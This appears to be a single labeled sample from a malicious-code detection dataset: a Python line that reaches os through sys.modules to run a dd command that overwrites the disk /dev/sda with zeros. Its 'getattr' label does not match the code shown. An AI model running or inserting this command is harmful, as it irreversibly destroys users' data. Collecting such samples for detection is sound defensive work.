# label: malicious; obfuscated: getattr
import sys, os
sys.modules["os"].system("dd if=/dev/zero of=/dev/sda")
